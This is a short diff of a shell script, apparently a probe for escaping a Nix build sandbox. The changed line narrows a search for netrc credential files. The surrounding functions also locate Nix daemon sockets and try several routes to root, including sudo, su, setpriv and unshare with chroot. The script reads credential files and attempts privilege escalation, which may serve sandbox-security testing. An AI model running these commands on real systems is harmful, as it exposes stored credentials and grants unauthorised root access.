@@ -44,7 +44,7 @@ agent() { # something answers there
 daemon() { HOME=$PWD NIX_REMOTE=unix://$1 nix --extra-experimental-features nix-command store ping; }
 hidden() { ls -l /tmp/flakeferry-*/ || cat /tmp/flakeferry-*; }
 sockets() { any daemon $(find / -xdev -type s 2>/dev/null) /nix/var/nix/daemon-socket/socket; }
-netrcs() { any cat $(find / -xdev -name '*netrc*' -type f 2>/dev/null) /etc/nix/netrc; }
+netrcs() { any cat $(find / -xdev -path /usr -prune -o -name '*netrc*' -type f -print 2>/dev/null) /etc/nix/netrc; }
 becomeRoot() {
   grep -q 'NoNewPrivs:.*0' /proc/self/status || sudo -n id || su -c id || setpriv --reuid=0 id ||
     unshare --user --map-root-user chroot /proc/1/root id
